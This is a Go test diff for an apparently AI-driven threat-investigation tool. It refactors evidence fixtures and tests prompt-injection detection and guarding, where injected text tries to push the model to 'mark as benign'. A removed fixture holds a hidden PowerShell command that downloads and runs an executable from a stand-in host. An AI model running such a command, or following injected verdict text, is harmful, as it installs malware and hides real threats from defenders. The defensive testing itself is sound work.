@@ -19,6 +19,7 @@ import (
 	"github.com/stretchr/testify/require"
 
 	"github.com/s1copilot/s1copilot/investigation"
+	"github.com/s1copilot/s1copilot/investigation/investigationtest"
 	"github.com/s1copilot/s1copilot/llm/llmtest"
 	"github.com/s1copilot/s1copilot/policy"
 )
@@ -57,57 +58,11 @@ func embed(t testing.TB, ev investigation.Evidence, e corpusEntry) investigation
 		ProcessUser: &f.ProcessUser, OriginatorProcess: &f.OriginatorProcess,
 		AddIndicator: func(p string) { f.Indicators = append(f.Indicators, p) },
 		AddTimeline: func(p string) {
-			ev.Timeline = append(ev.Timeline, investigation.TimelineItem{At: detected, ActivityType: 86, Description: p})
+			ev.Timeline = append(ev.Timeline, investigation.TimelineItem{At: investigationtest.Detected, ActivityType: 86, Description: p})
 		},
 	})
 	require.NoError(t, err)
 	return ev
-}
-
-// macroDropperDesktop: S1 malicious, Word launched PowerShell on a workstation
-// (rules: kill, quarantine, isolate; the example policy isolates workstations
-// automatically at 0.9).
-func macroDropperDesktop() investigation.Evidence {
-	return investigation.Evidence{
-		Facts: investigation.ThreatFacts{
-			ThreatID: "1850000000000000002", ThreatName: "8821.exe",
-			Classification: "Trojan", ClassificationSource: "Behavioral", ConfidenceLevel: "malicious",
-			MitigationStatus: "not_mitigated", SHA1: "5b1f7e7d9f1c2a3b4c5d6e7f8091a2b3c4d5e6f7",
-			FilePath:             `C:\Users\hbauer\AppData\Local\Temp\8821.exe`,
-			FileVerificationType: "NotSigned",
-			CommandLine:          `powershell.exe -NoP -W Hidden -c "iwr http://aptgrp-cdn.com/wp/1 -o $env:TEMP\8821.exe; saps $env:TEMP\8821.exe"`,
-			OriginatorProcess:    "WINWORD.EXE", InitiatedBy: "agent_policy", ProcessUser: `FABRIKAM\hbauer`,
-			Engines:    []string{"Behavioral AI"},
-			Indicators: []string{"Execution: Microsoft Word started PowerShell", "Network: Downloaded an executable from the internet"},
-			Techniques: []string{"T1204.002", "T1059.001"},
-			CreatedAt:  detected,
-			AgentID:    "1700000000000000002", AgentName: "ACC-DT-022", OSType: "windows", OSName: "Windows 10 Enterprise",
-			MachineType: "desktop", NetworkStatus: "connected", AgentActive: true,
-		},
-		Timeline: []investigation.TimelineItem{{At: detected, ActivityType: 19, Description: "Threat detected"}},
-	}
-}
-
-// signedUpdaterSuspicious: a signed, verified updater S1 rates only suspicious
-// (rules: suspicious, no action).
-func signedUpdaterSuspicious() investigation.Evidence {
-	return investigation.Evidence{
-		Facts: investigation.ThreatFacts{
-			ThreatID: "1850000000000000003", ThreatName: "GoogleUpdate.exe",
-			Classification: "Generic.Heuristic", ClassificationSource: "Static", ConfidenceLevel: "suspicious",
-			MitigationStatus: "not_mitigated", SHA1: "0a1b2c3d4e5f60718293a4b5c6d7e8f901234567",
-			FilePath:             `C:\Program Files (x86)\Google\Update\GoogleUpdate.exe`,
-			FileVerificationType: "SignedVerified", PublisherName: "Google LLC",
-			CommandLine:       `"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe" /ua /installsource scheduler`,
-			OriginatorProcess: "svchost.exe", InitiatedBy: "agent_policy", ProcessUser: `NT AUTHORITY\SYSTEM`,
-			Engines:    []string{"Static AI"},
-			Indicators: []string{"General: Process contacted an update server"},
-			CreatedAt:  detected,
-			AgentID:    "1700000000000000003", AgentName: "SALES-LT-07", OSType: "windows", OSName: "Windows 11 Pro",
-			MachineType: "laptop", NetworkStatus: "connected", AgentActive: true,
-		},
-		Timeline: []investigation.TimelineItem{{At: detected, ActivityType: 19, Description: "Threat detected"}},
-	}
 }
 
 // obeyingModel is an OpenAI-compatible server whose model obeys the injection:
@@ -209,9 +164,9 @@ func TestInjectionCorpusThroughInvestigation(t *testing.T) {
 		ev        func() investigation.Evidence
 		malicious bool
 	}{
-		{"ransomware server (S1 malicious)", ransomwareWindowsServer, true},
-		{"macro dropper desktop (S1 malicious)", macroDropperDesktop, true},
-		{"signed updater (S1 suspicious)", signedUpdaterSuspicious, false},
+		{"ransomware server (S1 malicious)", investigationtest.RansomwareServer, true},
+		{"macro dropper desktop (S1 malicious)", investigationtest.MacroDropper, true},
+		{"signed updater (S1 suspicious)", investigationtest.SignedUpdater, false},
 	}
 	policies := []struct {
 		name string
@@ -348,8 +303,8 @@ func scenarioStrings(t *testing.T) []string {
 
 func TestNoInjectionFlagsOnCleanEvidence(t *testing.T) {
 	for name, ev := range map[string]investigation.Evidence{
-		"ransomware": ransomwareWindowsServer(), "macro": macroDropperDesktop(),
-		"updater": signedUpdaterSuspicious(), "bench": benchEvidence(),
+		"ransomware": investigationtest.RansomwareServer(), "macro": investigationtest.MacroDropper(),
+		"updater": investigationtest.SignedUpdater(), "bench": investigationtest.Large(),
 	} {
 		assert.Empty(t, DetectInjection(ev), name)
 	}
@@ -444,7 +399,7 @@ func TestDetectInjectionFlagFormatAndBounds(t *testing.T) {
 
 func TestGuardAgainstInjection(t *testing.T) {
 	ctx := context.Background()
-	ev := ransomwareWindowsServer()
+	ev := investigationtest.RansomwareServer()
 	rules, err := NewRules().Analyze(ctx, ev)
 	require.NoError(t, err)
 	flags := []string{`commandLine: verdict manipulation: "mark as benign"`}
@@ -475,7 +430,7 @@ func TestGuardAgainstInjection(t *testing.T) {
 
 	// A fabricated true positive on a threat the rules only find suspicious:
 	// lowered to suspicious, the added actions dropped and asked about.
-	benign := signedUpdaterSuspicious()
+	benign := investigationtest.SignedUpdater()
 	brules, err := NewRules().Analyze(ctx, benign)
 	require.NoError(t, err)
 	fab := investigation.Analysis{
@@ -508,7 +463,7 @@ func TestGuardAgainstInjection(t *testing.T) {
 
 func TestOpenAIWithoutInjectionIsUnguarded(t *testing.T) {
 	fp := newFakeProvider(t, completion(goodAnswer))
-	a, err := fp.analyzer(t, 0).Analyze(context.Background(), ransomwareWindowsServer())
+	a, err := fp.analyzer(t, 0).Analyze(context.Background(), investigationtest.RansomwareServer())
 	require.NoError(t, err)
 	assert.Empty(t, a.InjectionFlags)
 	assert.Empty(t, a.Rules)
